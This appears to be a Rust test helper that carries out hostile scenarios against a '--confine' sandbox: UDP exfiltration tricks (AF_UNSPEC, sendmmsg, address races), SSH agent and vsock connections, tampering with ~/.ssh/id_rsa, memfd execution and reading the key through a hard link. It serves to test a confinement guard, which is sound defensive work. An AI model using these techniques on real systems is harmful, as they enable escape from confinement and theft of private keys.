//! The hostile round's attacks on `--confine` (issue 37), one scenario
//! each: what a server that wants out of its confinement tries before it
//! serves. Each says on stderr what came of it (`attack: NAME done` or
//! `attack: NAME refused (errno)`); the tests hold the guard's report
//! against what really happened (datagrams received, modes changed, the
//! key read). Linux only: elsewhere each says it was skipped.

use std::io::Write;

/// Runs the attack `name` (a scenario without its `attack-` prefix).
pub fn run(name: &str, err: &mut impl Write) {
    let outcome = imp::attack(name);
    let _ = writeln!(err, "attack: {name} {outcome}");
}

#[cfg(target_os = "linux")]
mod imp {
    use std::ffi::CString;
    use std::path::PathBuf;

    unsafe extern "C" {
        fn syscall(number: i64, ...) -> i64;
        fn socket(domain: i32, kind: i32, protocol: i32) -> i32;
        fn sendto(
            fd: i32,
            buf: *const u8,
            len: usize,
            flags: i32,
            addr: *const u8,
            alen: u32,
        ) -> isize;
        fn sendmsg(fd: i32, msg: *const MsgHdr, flags: i32) -> isize;
        fn connect(fd: i32, addr: *const u8, alen: u32) -> i32;
        fn write(fd: i32, buf: *const u8, len: usize) -> isize;
        fn close(fd: i32) -> i32;
        fn dup2(old: i32, new: i32) -> i32;
        fn chmod(path: *const i8, mode: u32) -> i32;
        fn chown(path: *const i8, uid: u32, gid: u32) -> i32;
        fn utimes(path: *const i8, times: *const [i64; 4]) -> i32;
        fn setxattr(path: *const i8, name: *const i8, v: *const u8, n: usize, f: i32) -> i32;
        fn link(old: *const i8, new: *const i8) -> i32;
        fn symlink(target: *const i8, path: *const i8) -> i32;
        fn mknod(path: *const i8, mode: u32, dev: u64) -> i32;
        fn bind(fd: i32, addr: *const u8, alen: u32) -> i32;
        fn getuid() -> u32;
        fn getgid() -> u32;
        fn __errno_location() -> *mut i32;
    }

    #[repr(C)]
    struct IoVec {
        base: *const u8,
        len: usize,
    }

    #[repr(C)]
    struct MsgHdr {
        name: *const u8,
        namelen: u32,
        iov: *const IoVec,
        iovlen: usize,
        control: *const u8,
        controllen: usize,
        flags: i32,
    }

    #[repr(C)]
    struct MMsgHdr {
        hdr: MsgHdr,
        len: u32,
    }

    const AF_UNIX: i32 = 1;
    const AF_INET: i32 = 2;
    const AF_VSOCK: i32 = 40;
    const SOCK_STREAM: i32 = 1;
    const SOCK_DGRAM: i32 = 2;
    const SYS_SENDMMSG: i64 = 307;
    const SYS_MEMFD_CREATE: i64 = 319;
    const SYS_EXECVEAT: i64 = 322;
    const AT_EMPTY_PATH: i64 = 0x1000;

    fn errno() -> i32 {
        // SAFETY: the thread's errno location is always valid.
        unsafe { *__errno_location() }
    }

    fn outcome(ok: bool) -> String {
        if ok {
            "done".into()
        } else {
            format!("refused (errno {})", errno())
        }
    }

    fn env_port(name: &str, default: u16) -> u16 {
        std::env::var(name)
            .ok()
            .and_then(|p| p.parse().ok())
            .unwrap_or(default)
    }

    fn home() -> PathBuf {
        std::env::var_os("FAKE_HOME")
            .or_else(|| std::env::var_os("HOME"))
            .map(PathBuf::from)
            .unwrap_or_default()
    }

    fn c(path: &std::path::Path) -> CString {
        CString::new(path.as_os_str().as_encoded_bytes()).unwrap_or_default()
    }

    /// A `sockaddr_in` for 127.0.0.1:`port`, with `family` as given.
    fn inet(family: u16, port: u16) -> [u8; 16] {
        let mut a = [0u8; 16];
        a[0..2].copy_from_slice(&family.to_le_bytes());
        a[2..4].copy_from_slice(&port.to_be_bytes());
        a[4..8].copy_from_slice(&[127, 0, 0, 1]);
        a
    }

    fn udp() -> i32 {
        // SAFETY: integers only.
        unsafe { socket(AF_INET, SOCK_DGRAM, 0) }
    }

    pub fn attack(name: &str) -> String {
        let port = env_port("FAKE_PORT", 9);
        let allowed = env_port("FAKE_ALLOWED_PORT", 53);
        let payload = b"exfiltrated";
        match name {
            // sendto with sin_family AF_UNSPEC: UDP sends it as IPv4.
            "unspec" => {
                let fd = udp();
                if fd < 0 {
                    return outcome(false);
                }
                let addr = inet(0, port);
                // SAFETY: live buffers of the stated sizes.
                let n =
                    unsafe { sendto(fd, payload.as_ptr(), payload.len(), 0, addr.as_ptr(), 16) };
                outcome(n > 0)
            }
            // A UDP socket on the old hand-off descriptor, sent with the
            // old hand-off's flags.
            "handoff" => {
                let fd = udp();
                // SAFETY: integers only.
                if fd < 0 || unsafe { dup2(fd, 1021) } != 1021 {
                    return outcome(false);
                }
                let addr = inet(2, port);
                let iov = IoVec {
                    base: payload.as_ptr(),
                    len: payload.len(),
                };
                let msg = MsgHdr {
                    name: addr.as_ptr(),
                    namelen: 16,
                    iov: &iov,
                    iovlen: 1,
                    control: std::ptr::null(),
                    controllen: 0,
                    flags: 0,
                };
                // SAFETY: every pointer is a live local of its size.
                let n = unsafe { sendmsg(1021, &msg, 0x40 | 0x4000) };
                outcome(n > 0)
            }
            // Two messages in one sendmmsg: an allowed one first.
            "sendmmsg" => {
                let fd = udp();
                if fd < 0 {
                    return outcome(false);
                }
                let first = inet(2, allowed);
                let second = inet(2, port);
                let iov = IoVec {
                    base: payload.as_ptr(),
                    len: payload.len(),
                };
                let hdr = |a: &[u8; 16]| MMsgHdr {
                    hdr: MsgHdr {
                        name: a.as_ptr(),
                        namelen: 16,
                        iov: &iov,
                        iovlen: 1,
                        control: std::ptr::null(),
                        controllen: 0,
                        flags: 0,
                    },
                    len: 0,
                };
                let msgs = [hdr(&first), hdr(&second)];
                // SAFETY: two live mmsghdr with live buffers.
                let n = unsafe { syscall(SYS_SENDMMSG, fd, msgs.as_ptr(), 2u32, 0u32) };
                if n >= 0 {
                    format!("done ({n} sent)")
                } else {
                    outcome(false)
                }
            }
            // A thread flips the port between an allowed one and another
            // while the main thread sends.
            "race" => {
                let fd = udp();
                if fd < 0 {
                    return outcome(false);
                }
                let addr = Box::leak(Box::new(inet(2, allowed)));
                let ptr = addr.as_mut_ptr() as usize;
                let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
                let flag = stop.clone();
                let flipper = std::thread::spawn(move || {
                    let (a, b) = (allowed.to_be_bytes(), port.to_be_bytes());
                    let mut i = 0u64;
                    while !flag.load(std::sync::atomic::Ordering::Relaxed) {
                        let p = if i % 2 == 0 { a } else { b };
                        // SAFETY: the leaked buffer lives forever; the
                        // race on it is the attack.
                        unsafe {
                            std::ptr::write_volatile((ptr + 2) as *mut u8, p[0]);
                            std::ptr::write_volatile((ptr + 3) as *mut u8, p[1]);
                        }
                        i += 1;
                    }
                });
                let mut sent = 0;
                for _ in 0..2000 {
                    // SAFETY: the buffers live; the address is raced.
                    let n = unsafe {
                        sendto(fd, payload.as_ptr(), payload.len(), 0, ptr as *const u8, 16)
                    };
                    if n > 0 {
                        sent += 1;
                    }
                }
                stop.store(true, std::sync::atomic::Ordering::Relaxed);
                let _ = flipper.join();
                if sent > 0 {
                    format!("done ({sent} sent)")
                } else {
                    outcome(false)
                }
            }
            // Another program's named socket (an SSH agent's).
            "agent" => {
                let path = std::env::var("FAKE_SOCK").unwrap_or_default();
                // SAFETY: integers only.
                let fd = unsafe { socket(AF_UNIX, SOCK_STREAM, 0) };
                let mut addr = [0u8; 110];
                addr[0] = AF_UNIX as u8;
                let bytes = path.as_bytes();
                addr[2..2 + bytes.len().min(100)].copy_from_slice(&bytes[..bytes.len().min(100)]);
                // SAFETY: a live sockaddr_un.
                let ok = fd >= 0 && unsafe { connect(fd, addr.as_ptr(), 110) } == 0;
                if ok {
                    let msg = b"list keys";
                    // SAFETY: a live buffer.
                    unsafe { write(fd, msg.as_ptr(), msg.len()) };
                }
                outcome(ok)
            }
            "vsock" => {
                // SAFETY: integers only.
                let fd = unsafe { socket(AF_VSOCK, SOCK_STREAM, 0) };
                if fd < 0 {
                    return outcome(false);
                }
                // sockaddr_vm: family, reserved, port, cid 2 (the host).
                let mut addr = [0u8; 16];
                addr[0..2].copy_from_slice(&(AF_VSOCK as u16).to_le_bytes());
                addr[4..8].copy_from_slice(&1234u32.to_le_bytes());
                addr[8..12].copy_from_slice(&2u32.to_le_bytes());
                // SAFETY: a live sockaddr_vm.
                unsafe { connect(fd, addr.as_ptr(), 16) };
                unsafe { close(fd) };
                "done (socket made)".into()
            }
            // Metadata and nodes outside the write trees.
            "metadata" => {
                let home = home();
                let key = c(&home.join(".ssh/id_rsa"));
                let ssh = c(&home.join(".ssh"));
                let times = [0i64, 0, 0, 0];
                let name = CString::new("user.guard").unwrap_or_default();
                let mut done = Vec::new();
                // SAFETY: live C strings and buffers for each call.
                unsafe {
                    done.push(("chmod-key", chmod(key.as_ptr(), 0o644) == 0));
                    done.push(("chmod-dir", chmod(ssh.as_ptr(), 0o755) == 0));
                    done.push(("utimes", utimes(key.as_ptr(), &times) == 0));
                    let v = b"1";
                    done.push((
                        "setxattr",
                        setxattr(key.as_ptr(), name.as_ptr(), v.as_ptr(), 1, 0) == 0,
                    ));
                    done.push(("chown", chown(key.as_ptr(), getuid(), getgid()) == 0));
                    let sym = c(&home.join("planted-link"));
                    done.push(("symlink", symlink(key.as_ptr(), sym.as_ptr()) == 0));
                    let fifo = c(&home.join("planted-fifo"));
                    done.push(("mknod", mknod(fifo.as_ptr(), 0o10644, 0) == 0));
                    let fd = socket(AF_UNIX, SOCK_STREAM, 0);
                    let mut addr = [0u8; 110];
                    addr[0] = AF_UNIX as u8;
                    let p = home.join("planted-sock");
                    let b = p.as_os_str().as_encoded_bytes();
                    addr[2..2 + b.len().min(100)].copy_from_slice(&b[..b.len().min(100)]);
                    done.push(("bind", bind(fd, addr.as_ptr(), 110) == 0));
                }
                let list: Vec<String> = done
                    .iter()
                    .map(|(w, ok)| format!("{w}={}", if *ok { "done" } else { "refused" }))
                    .collect();
                list.join(" ")
            }
            // A program copied into a memfd, run from its descriptor
            // (execveat AT_EMPTY_PATH) and by its /proc/self/fd path.
            "memfd" => {
                let Ok(bytes) = std::fs::read("/bin/true") else {
                    return "skipped (no /bin/true)".into();
                };
                let name = CString::new("payload").unwrap_or_default();
                // SAFETY: a live C string; flags 0.
                let fd = unsafe { syscall(SYS_MEMFD_CREATE, name.as_ptr(), 0u32) } as i32;
                if fd < 0 {
                    return outcome(false);
                }
                // SAFETY: a live buffer.
                unsafe { write(fd, bytes.as_ptr(), bytes.len()) };
                let by_fd = run_in_child(move || {
                    let empty = c"";
                    let argv = [name_ptr(), std::ptr::null()];
                    let envp = [std::ptr::null::<i8>()];
                    // SAFETY: live arrays; on success nothing returns.
                    unsafe {
                        syscall(
                            SYS_EXECVEAT,
                            fd,
                            empty.as_ptr(),
                            argv.as_ptr(),
                            envp.as_ptr(),
                            AT_EMPTY_PATH,
                        )
                    };
                });
                let by_path = std::process::Command::new(format!("/proc/self/fd/{fd}"))
                    .status()
                    .is_ok_and(|s| s.success());
                format!(
                    "execveat={} proc-path={}",
                    if by_fd { "done" } else { "refused" },
                    if by_path { "done" } else { "refused" }
                )
            }
            // A hard link to the key in the temporary directory, then read.
            "hardlink" => {
                let home = home();
                let tmp = std::env::temp_dir().join(format!("k-{}", std::process::id()));
                let key = c(&home.join(".ssh/id_rsa"));
                let at = c(&tmp);
                // SAFETY: live C strings.
                let linked = unsafe { link(key.as_ptr(), at.as_ptr()) } == 0;
                let read = std::fs::read(&tmp);
                let _ = std::fs::remove_file(&tmp);
                match read {
                    Ok(bytes) => format!(
                        "read through a link ({} bytes, linked={linked})",
                        bytes.len()
                    ),
                    Err(_) => format!("refused (linked={linked})"),
                }
            }
            other => format!("unknown attack {other}"),
        }
    }

    fn name_ptr() -> *const i8 {
        c"payload".as_ptr()
    }

    /// Runs `f` in a child made by `Command`'s fork (before its exec of
    /// /bin/false, which runs only if `f` returns): whether the child
    /// exited 0, which only the program `f` runs does.
    fn run_in_child(f: impl Fn() + Send + Sync + 'static) -> bool {
        use std::os::unix::process::CommandExt;
        let mut cmd = std::process::Command::new("/bin/false");
        // SAFETY: the closure calls one system call and returns.
        unsafe {
            cmd.pre_exec(move || {
                f();
                Ok(())
            });
        }
        cmd.status().is_ok_and(|s| s.success())
    }
}

#[cfg(not(target_os = "linux"))]
mod imp {
    pub fn attack(_name: &str) -> String {
        "skipped (not Linux)".into()
    }
}
